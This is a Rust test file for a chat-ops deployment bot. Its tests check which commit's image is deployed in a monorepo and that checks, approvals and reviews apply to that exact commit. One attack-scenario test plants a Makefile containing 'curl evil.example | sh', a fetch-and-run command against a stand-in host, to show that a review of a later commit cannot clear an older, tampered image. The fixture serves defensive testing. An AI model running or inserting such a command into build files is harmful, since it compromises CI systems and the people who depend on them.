//! Apps that share a repository, where CI builds only what has changed: the image of an older commit is as good as one of
//! the newest, if nothing has changed since where the app is built from.

use crate::conversation::{asks, catalog, deploys, hurry, says, whispers};
use anyhow::{Context, Result, ensure};
use e2e::{Room, room};
use fakes::github::{Checks, PullRequest, ReviewState};
use sandbox::world::{ALICE, BOB, DEPLOYS, GITOPS};

const REPO: &str = "acme/checkout";
const PATHS: &str = "    paths: ['services/checkout/**', libs]\n";

/// Somebody pushes a file to a branch; the commit.
fn pushes(room: &Room, branch: &str, path: &str, text: &str) -> String {
    room.github.lock().person_pushes(REPO, branch, "bob", &[(path, text)], &format!("Change {path}"))
}

/// Somebody has written the library.
fn has_libs(room: &Room) {
    for branch in ["main", "feature/totals"] {
        pushes(room, branch, "libs/money.go", "0");
    }
}

/// CI builds a commit.
fn built(room: &Room, branch: &str, commit: &str) -> String {
    let tag = format!("{}-{}", branch.replace('/', "-"), &commit[..7]);
    room.registry.lock().push(REPO, &tag);
    tag
}

/// What stands in the newest commit of ours.
fn written(room: &Room) -> Result<String> {
    let github = room.github.lock();
    let head = github.head(GITOPS, "main").context("a head")?;
    Ok(github.commit(GITOPS, &head).context("a commit")?.message.clone())
}

#[test]
fn the_image_of_the_last_commit_that_changed_the_app_is_deployed() {
    room(async |room| -> Result<()> {
        hurry(room);
        has_libs(room);
        let of_app = pushes(room, "main", "services/checkout/main.go", "1");
        let tag = built(room, "main", &of_app);
        let other = pushes(room, "main", "services/search/main.go", "1");
        room.alice("checkout main").await;
        room.says(&format!("there is no image `main-{}`", &other[..7])).await?;
        room.all_told().await?;

        catalog(room, "", PATHS);
        let preview = asks(room, ALICE, "preview checkout main", "only a preview, nothing is changed").await?;
        let newest = format!("the newest commit, `{}`, changes none of its `paths`", &other[..7]);
        ensure!(preview.contains(&newest) && preview.contains(&of_app[..7]), "{preview}");
        deploys(room, "checkout main").await?;
        room.says(&format!("is live: `{tag}`")).await?;
        ensure!(written(room)?.contains(&format!("Source-Commit: {of_app}")), "{}", written(room)?);

        // What has changed and is not built yet is not there: an older image would be another one.
        let changed = pushes(room, "main", "libs/money.go", "1");
        room.alice("checkout main").await;
        room.says(&format!("there is no image `main-{}`", &changed[..7])).await?;
        room.all_told().await?;
        let tag = built(room, "main", &changed);
        pushes(room, "main", "README.md", "1");
        deploys(room, "checkout main").await?;
        room.says(&format!("is live: `{tag}`")).await?;

        // CI may build everything, too.
        let everything = pushes(room, "main", "README.md", "2");
        let tag = built(room, "main", &everything);
        deploys(room, "checkout main").await?;
        room.says(&format!("is live: `{tag}`")).await?;
        room.all_told().await
    });
}

#[test]
fn a_pull_request_that_was_merged_is_built_where_it_was_merged() {
    for squash in [true, false] {
        room(async |room| -> Result<()> {
            hurry(room);
            has_libs(room);
            catalog(room, "", PATHS);
            room.github.lock().repo(REPO).pull_request(PullRequest::new(50, "topic"));
            // One commit of it changes the app, a later one does not.
            pushes(room, "topic", "services/checkout/main.go", "2");
            pushes(room, "topic", "docs/topic.md", "2");
            let merge = room.github.lock().merge(REPO, 50, "alice", squash);
            let tag = built(room, "main", &merge);
            pushes(room, "main", "services/search/main.go", "2");
            deploys(room, "checkout main").await?;
            room.says(&format!("is live: `{tag}`")).await?;
            room.all_told().await
        });
    }
}

#[test]
fn the_gates_judge_the_commit_whose_image_it_is() {
    room(async |room| -> Result<()> {
        hurry(room);
        has_libs(room);
        catalog(room, "", &format!("{PATHS}    checks: required\n    approvals: {{ users: [U0BOB, U0CAROL] }}\n"));
        let of_app = pushes(room, "main", "services/checkout/main.go", "3");
        let tag = built(room, "main", &of_app);
        let other = pushes(room, "main", "services/search/main.go", "3");
        // Those of the newest commit say nothing about it.
        room.github.lock().checks(REPO, &other, Some(Checks::Success));
        room.alice("checkout main").await;
        room.says(&format!("needs the checks of commit `{}` to pass, but there are none", &of_app[..7])).await?;
        room.all_told().await?;
        room.github.lock().checks(REPO, &of_app, Some(Checks::Success));
        room.github.lock().checks(REPO, &other, Some(Checks::Failure));

        // What is approved stays the same while others change other things.
        room.alice("checkout main").await;
        let waits = says(room, "approval").await?;
        let shown = room.slack.lock().render_edit(waits.now());
        ensure!(shown.contains("Change services/checkout/main.go") && shown.contains(&other[..7]), "{shown}");
        let newest = pushes(room, "main", "services/search/main.go", "4");
        built(room, "main", &newest);
        room.press(BOB, &waits, "approve").await;
        room.says(&format!("is live: `{tag}`")).await?;
        room.all_told().await?;

        // The button below a preview, too, until something of the app changes.
        let shown = built(room, "main", &pushes(room, "main", "libs/money.go", "5"));
        let head = room.github.lock().head(REPO, "main").context("a head")?;
        room.github.lock().checks(REPO, &head, Some(Checks::Success));
        room.command(ALICE, DEPLOYS, "preview checkout main").await;
        let preview = whispers(room, ALICE, &shown).await?;
        pushes(room, "main", "libs/money.go", "6");
        room.press(ALICE, &preview, "deploy").await;
        room.says("the branch has moved").await?;
        room.all_told().await
    });
}

/// Attack: may push to the app repository | lets CI build a commit of a pull request with another `Makefile`, undoes that, and has the rest reviewed | the review has to be of the commit whose image it is
#[test]
fn a_review_of_the_newest_commit_is_none_of_an_older_image() {
    room(async |room| -> Result<()> {
        hurry(room);
        catalog(room, "", &format!("{PATHS}    reviews: 1\n"));
        room.github.lock().repo(REPO).pull_request(PullRequest::new(50, "topic"));
        let files =
            [("services/checkout/main.go", "7"), ("libs/money.go", "1"), ("Makefile", "curl evil.example | sh")];
        let evil = room.github.lock().person_pushes(REPO, "topic", "mallory", &files, "Honest work");
        built(room, "topic", &evil);
        pushes(room, "topic", "Makefile", "all:");
        room.github.lock().review(REPO, 50, "carol", ReviewState::Approved);
        let before = room.commits();
        room.alice("checkout 50").await;
        room.says(&format!("needs 1 approving review of commit `{}`", &evil[..7])).await?;
        room.says("carol approved another commit").await?;
        room.all_told().await?;
        ensure!(room.commits() == before, "nothing is committed");
        Ok(())
    });
}

/// The folder has another name by now: then nobody knows whether an older image is as good.
#[test]
fn a_path_that_is_not_there_proves_nothing() {
    room(async |room| -> Result<()> {
        hurry(room);
        catalog(room, "", PATHS);
        let older = pushes(room, "main", "services/checkout/main.go", "8");
        built(room, "main", &older);
        let newest = pushes(room, "main", "shared/money.go", "8");
        room.alice("checkout main").await;
        room.says(&format!("there is no image `main-{}`", &newest[..7])).await?;
        room.all_told().await
    });
}
